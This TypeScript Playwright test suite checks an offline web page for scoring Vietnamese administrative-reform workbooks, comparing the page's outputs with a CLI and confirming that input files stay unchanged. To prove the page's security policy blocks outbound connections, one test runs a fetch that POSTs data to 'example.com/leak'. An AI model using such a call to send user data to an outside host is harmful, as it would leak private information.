import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { createHash } from 'node:crypto';
import { copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchChromium } from '../helpers/browser';
import { cellValues, recalculate } from '../helpers/libreoffice';
import { cchc } from '../helpers/run-cli';
import { tempDir } from '../helpers/temp-dir';

jest.setTimeout(300_000);

const ROOT = join(__dirname, '../..');
const PAGE = join(ROOT, 'dist/web/cchc.html');
const PAGE_URL = pathToFileURL(PAGE).href;
const EXAMPLE = join(ROOT, 'examples/cham-diem-vinh-linh-2023.xlsx');
const UNITS = ['cam-lo', 'gio-linh', 'vinh-linh'].map((u) => join(ROOT, 'examples/don-vi', `${u}.xlsx`));
const DECISION = join(ROOT, 'examples/quyet-dinh-ca-mau-1880.docx');
const YEAR = new Date().getFullYear();
const dir = tempDir('cchc-web-');

const sha = (path: string): string => createHash('sha256').update(readFileSync(path)).digest('hex');

/** Every cell of every sheet as "sheet!A1 = value | formula", for comparing two workbooks cell by cell. */
async function cellsOf(path: string): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const cells: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => {
      const v = cell.formula ? `=${cell.formula}` : JSON.stringify(cell.value);
      cells.push(`${ws.name}!${cell.address} = ${v}${cell.numFmt ? ` [${cell.numFmt}]` : ''}`);
    }));
    cells.push(`${ws.name} merges ${JSON.stringify(Object.keys((ws as unknown as { _merges: Record<string, unknown> })._merges).sort())}`);
  }
  return cells;
}

async function partsOf(path: string): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(readFileSync(path));
  const parts = new Map<string, string>();
  for (const [name, entry] of Object.entries(zip.files)) if (!entry.dir) parts.set(name, await entry.async('string'));
  return parts;
}

describe('the one-file page, from file://, over the officer\'s own files', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const requests: string[] = [];
  const inputs = [EXAMPLE, ...UNITS, DECISION];
  const before = new Map(inputs.map((p) => [p, sha(p)]));

  beforeAll(async () => {
    if (!existsSync(PAGE)) throw new Error('dist/web/cchc.html is missing: run `npm run build` first');
    browser = await launchChromium();
    context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1280, height: 800 } });
    // Every request is recorded, and refused but the page itself.
    context.on('request', (r) => requests.push(r.url()));
    await context.route('**/*', (route) => (route.request().url() === PAGE_URL ? route.continue() : route.abort()));
    page = await context.newPage();
    await page.goto(PAGE_URL);
    await page.waitForSelector('#template option', { state: 'attached' });
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** Opens files through the page's own file button, as the officer does. */
  async function open(...paths: string[]): Promise<void> {
    const batches = Number(await page.getAttribute('#files', 'data-batches') ?? 0);
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('#open-label')]);
    await chooser.setFiles(paths);
    await page.waitForFunction((n) => Number(document.getElementById('files')?.dataset.batches ?? 0) > n, batches);
  }

  async function saveDownload(click: () => Promise<unknown>): Promise<{ path: string; name: string }> {
    const [download] = await Promise.all([page.waitForEvent('download'), click()]);
    const name = download.suggestedFilename();
    const path = join(dir, `${requests.length}-${Date.now()}-${name}`);
    await download.saveAs(path);
    return { path, name };
  }

  async function act(tab: string, button: string): Promise<void> {
    await page.click(`#tab-${tab}`);
    await page.click(`#${button}`);
    await page.waitForSelector(`#${button}:not([disabled])`);
    await page.waitForFunction(() => !/Đang xử lý/.test(document.getElementById('status-text')?.textContent ?? ''));
  }

  test('the page is one file whose policy forbids every connection; the only request is the file itself', async () => {
    const html = readFileSync(PAGE, 'utf8');
    expect(html).not.toMatch(/<script[^>]+src=|<link[^>]+href=|@import|url\(\s*['"]?(https?:)?\/\//);
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(policy).toContain("connect-src 'none'");
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toContain('unsafe-eval');
    // A script that tries to send something is stopped by the page's policy before any request leaves.
    const sent = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/leak', { method: 'POST', body: 'figures' });
        return 'sent';
      } catch {
        return 'refused';
      }
    });
    expect(sent).toBe('refused');
    expect(requests).toEqual([PAGE_URL]);
  });

  test('Kiểm tra lists D38; Sửa tất cả, then Tính điểm: the download, recalculated in LibreOffice, gives −23,41 over 27 criteria as `cchc score --json` does, with every part of the input', async () => {
    await open(EXAMPLE);
    await act('check', 'check');
    // The one error, then a warning at each opinion whose pasted HTML or LaTeX would print (as `cchc check` lists them).
    const listed = await page.$$eval('#problems [data-cell]', (b) => b.map((x) => x.getAttribute('data-cell') ?? ''));
    expect([listed[0], listed.length, listed.slice(1).every((c) => /^[GH]\d+$/.test(c))]).toEqual(['D38', 14, true]);
    // Where Excel would select the cell, the page shows it: its address, its row's text, its value.
    await page.click('#problems [data-cell="D38"]');
    await page.waitForFunction(() => (document.getElementById('cell-view')?.textContent ?? '') !== '');
    const cellView = await page.textContent('#cell-view');
    expect(cellView).toMatch(/^Ô D38 — dòng 38: 5\.1\.2 \| .*Giá trị trong ô: 0\.25$/);
    expect(await page.textContent('#fix-all')).toBe('Sửa tất cả (1)');
    await page.click('#fix-all');
    await page.waitForFunction(() => /Đã sửa 1 ô/.test(document.getElementById('status-text')?.textContent ?? ''));
    // What remains are the opinions' residue warnings, for Làm sạch; no error.
    expect(await page.textContent('#problem-info')).toBe('13 vấn đề — bấm vào một vấn đề để xem ô.');
    expect(await page.$$eval('#problems [data-cell]', (b) => b.map((x) => x.getAttribute('data-cell') ?? '').filter((c) => !/^[GH]\d+$/.test(c)))).toEqual([]);
    // Fixed only, downloaded: the copy has the number, the input still its text.
    const fixed = await saveDownload(() => page.click('#save'));
    expect(fixed.name).toBe('cham-diem-vinh-linh-2023 (đã sửa).xlsx');
    const checked = await cchc('check', fixed.path);
    expect([checked.code, checked.err, checked.out.split('\n').filter((l) => !l.includes('[Lưu ý] Ô có phần thừa do dán'))]).toEqual([0, '', ['0 lỗi, 13 lưu ý.']]);
    await act('score', 'score');
    expect(await page.textContent('#score-result dl')).toContain('-23,41');
    const { path, name } = await saveDownload(() => page.click('#save'));
    expect(name).toBe('cham-diem-vinh-linh-2023 (đã sửa, đã chấm điểm).xlsx');
    const json = JSON.parse((await cchc('score', path, '--json')).out) as { rows: { row: number }[]; totals: { deduction: number; lost: number } };
    expect(json.totals).toMatchObject({ deduction: -23.41, lost: 27 });
    const [recalculated] = recalculate([path], tempDir('cchc-web-lo-'));
    const show = await cellValues(recalculated ?? '');
    const totalRow = Math.max(...json.rows.map((r) => r.row)) + 1;
    expect([show(`F${totalRow}`), show(`F${totalRow + 3}`), show('D38')]).toEqual([json.totals.deduction, json.totals.lost, 0.25]);
    const input = await partsOf(EXAMPLE);
    const output = await partsOf(path);
    expect([...input.keys()].filter((p) => !output.has(p))).toEqual([]);
  });

  test('Tính điểm\'s download has the cells `cchc score -o` writes, part for part', async () => {
    // The example opened again: a fresh working copy, scored without fixing.
    await open(EXAMPLE);
    await act('score', 'score');
    const { path, name } = await saveDownload(() => page.click('#save'));
    expect(name).toBe('cham-diem-vinh-linh-2023 (đã chấm điểm).xlsx');
    const cli = join(dir, 'cli-scored.xlsx');
    // 1: the example keeps its data error (D38), which scoring reports and does not fix.
    expect((await cchc('score', EXAMPLE, '-o', cli)).code).toBe(1);
    expect(await cellsOf(path)).toEqual(await cellsOf(cli));
    const mine = await partsOf(path);
    const theirs = await partsOf(cli);
    expect([...mine.keys()].sort()).toEqual([...theirs.keys()].sort());
    for (const [part, text] of theirs) expect([part, mine.get(part)]).toEqual([part, text]);
  });

  test('the three units of examples/don-vi opened together give the summary `cchc rank` gives', async () => {
    // The summary is over every opened file: a fresh page holds only these three.
    await page.reload();
    await page.waitForSelector('#template option', { state: 'attached' });
    await open(...UNITS);
    await page.click('#tab-tools');
    const { path } = await saveDownload(() => page.click('#summary'));
    await page.waitForFunction(() => /Đã tổng hợp 3 đơn vị/.test(document.getElementById('status-text')?.textContent ?? ''));
    const cli = join(dir, 'cli-summary.xlsx');
    const copies = UNITS.map((u) => {
      const copy = join(dir, basename(u));
      copyFileSync(u, copy);
      return copy;
    });
    expect((await cchc('rank', ...copies, '-o', cli)).code).toBeLessThan(2);
    expect(await cellsOf(path)).toEqual(await cellsOf(cli));
  });

  test('the Cà Mau decision imports to the set `cchc import-set` gives; a template then has the cells of `cchc template --set`', async () => {
    await page.click('#tab-sets');
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('label[for="set-file"]')]);
    await chooser.setFiles(DECISION);
    await page.waitForFunction(() => /Đã nạp/.test(document.getElementById('status-text')?.textContent ?? ''));
    const stored = JSON.parse(await page.evaluate(() => localStorage.getItem('cchc-phu-luc.sets') ?? 'null')) as { active: string; sets: { id: string }[] };
    const cli = JSON.parse((await cchc('import-set', DECISION, '--json')).out) as { set: { id: string } };
    expect(stored.active).toBe(cli.set.id);
    expect(stored.sets.find((s) => s.id === cli.set.id)).toEqual(cli.set);
    const setFile = join(dir, 'ca-mau.json');
    writeFileSync(setFile, JSON.stringify(cli.set));
    await page.click('#tab-template');
    await page.selectOption('#template', 'cham-diem');
    const { path } = await saveDownload(() => page.click('#insert'));
    const out = join(dir, 'cli-template.xlsx');
    expect((await cchc('template', 'cham-diem', '--year', String(YEAR), '--set', setFile, '-o', out)).code).toBe(0);
    expect(await cellsOf(path)).toEqual(await cellsOf(out));
    // The set stays for the next visit, and can be removed.
    await page.reload();
    await page.waitForSelector('#template option', { state: 'attached' });
    expect(await page.$eval('#set', (s) => (s as HTMLSelectElement).value)).toBe(cli.set.id);
    await page.click('#tab-sets');
    // The panel asks first (one confirmation in every host), then removes it.
    await page.click('#set-remove');
    await page.click('#set-remove-yes');
    await page.waitForFunction(() => /Đã xóa/.test(document.getElementById('status-text')?.textContent ?? ''));
    expect(await page.$$eval('#set option', (o) => o.length)).toBe(1);
  });

  test('a .ods and a .docx opened as workbooks get the CLI\'s message', async () => {
    const ods = join(dir, 'cham-diem.ods');
    const lo = tempDir('cchc-web-ods-');
    const { execFileSync } = await import('node:child_process');
    execFileSync('/usr/bin/soffice', [`-env:UserInstallation=file://${lo}/profile`, '--headless', '--convert-to', 'ods', '--outdir', lo, EXAMPLE], { stdio: 'pipe', timeout: 120_000 });
    copyFileSync(join(lo, 'cham-diem-vinh-linh-2023.ods'), ods);
    for (const file of [ods, DECISION]) {
      await open(file);
      const shown = await page.textContent('#open-problems');
      const cli = await cchc('check', file);
      expect(cli.code).toBe(2);
      expect(shown).toBe(cli.err.split(file).join(basename(file)));
      // A spreadsheet of another kind is to be saved again as .xlsx; a Word file is the wrong file.
      expect(shown).toContain(file === ods ? 'Lưu lại dưới dạng .xlsx' : 'là văn bản Word (.docx), không phải bảng tính');
    }
  });

  test('the input files are byte-identical afterwards, and nothing but the page was requested', () => {
    for (const [path, hash] of before) expect([path, sha(path)]).toEqual([path, hash]);
    // The page, and the page again when reloaded: nothing else.
    expect(requests).toEqual([PAGE_URL, PAGE_URL, PAGE_URL]);
  });
});

/** What an officer sees after each step: the step's result on screen, nothing wider than the window. */
describe.each([[1280, 800], [390, 844]] as const)('the page at %i px wide', (width, height) => {
  let browser: Browser;
  let page: Page;
  const shots = tempDir('cchc-web-shots-');

  beforeAll(async () => {
    browser = await launchChromium();
    const context = await browser.newContext({ acceptDownloads: true, viewport: { width, height } });
    await context.route('**/*', (route) => (route.request().url() === PAGE_URL ? route.continue() : route.abort()));
    page = await context.newPage();
    await page.goto(PAGE_URL);
    await page.waitForSelector('#template option', { state: 'attached' });
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** The result's line: in the window, not under the download bar, and no sideways scroll. */
  async function inView(name: string, result: string): Promise<void> {
    await page.screenshot({ path: join(shots, `${width}-${name}.png`) });
    const seen = await page.evaluate((selector) => {
      const node = document.querySelector(selector);
      const dock = document.getElementById('dock');
      const r = node?.getBoundingClientRect();
      // The download bar stays at the foot of the window; whatever else is shown must be above it.
      const floor = dock && !dock.hidden && !dock.contains(node) ? dock.getBoundingClientRect().top : window.innerHeight;
      return {
        sideways: document.documentElement.scrollWidth - document.documentElement.clientWidth,
        text: node?.textContent ?? '',
        inView: r !== undefined && r.height > 0 && r.top >= 0 && r.bottom <= floor,
      };
    }, result);
    expect({ name, ...seen, text: seen.text.length > 0 }).toEqual({ name, sideways: 0, text: true, inView: true });
  }

  async function run(tab: string, button: string, done: RegExp): Promise<void> {
    await page.click(`#tab-${tab}`);
    await page.click(`#${button}`);
    await page.waitForFunction((re) => new RegExp(re).test(document.getElementById('status-text')?.textContent ?? ''), done.source);
  }

  test('each state, from a fresh page to a refused file', async () => {
    await inView('fresh', '#open-label');
    const batches = async (): Promise<number> => Number(await page.getAttribute('#files', 'data-batches') ?? 0);
    const open = async (...paths: string[]): Promise<void> => {
      const n = await batches();
      await page.setInputFiles('#open-file', paths);
      await page.waitForFunction((m) => Number(document.getElementById('files')?.dataset.batches ?? 0) > m, n);
    };
    await open(...UNITS, EXAMPLE);
    await inView('opened', '#open-status-text');
    await run('check', 'check', /Đã kiểm tra/);
    await inView('problems', '#status-text');
    await page.click('[data-fix="D38"]');
    await page.waitForFunction(() => /Đã sửa/.test(document.getElementById('status-text')?.textContent ?? ''));
    await inView('fixed', '#status-text');
    await inView('fixed-download', '#save');
    await run('score', 'score', /Đã chấm điểm/);
    await inView('scored', '#status-text');
    await run('tools', 'plan', /Đã tạo tệp/);
    await inView('plan', '#status-text');
    await run('tools', 'summary', /Đã tổng hợp 4 đơn vị/);
    await inView('summary', '#status-text');
    await page.click('#problems [data-cell="D38"]').catch(() => undefined);
    await page.click('#tab-check');
    await page.click('#problems button.problem').catch(() => undefined);
    await page.click('#tab-sets');
    await page.setInputFiles('#set-file', DECISION);
    await page.waitForFunction(() => /Đã nạp/.test(document.getElementById('status-text')?.textContent ?? ''));
    await inView('set', '#status-text');
    await open(DECISION);
    await inView('refused', '#open-problems');
    await page.click('#language');
    await inView('english', '#open-problems');
    expect(await page.textContent('#open-label')).toBe('Open Excel files (.xlsx)…');
  });
});
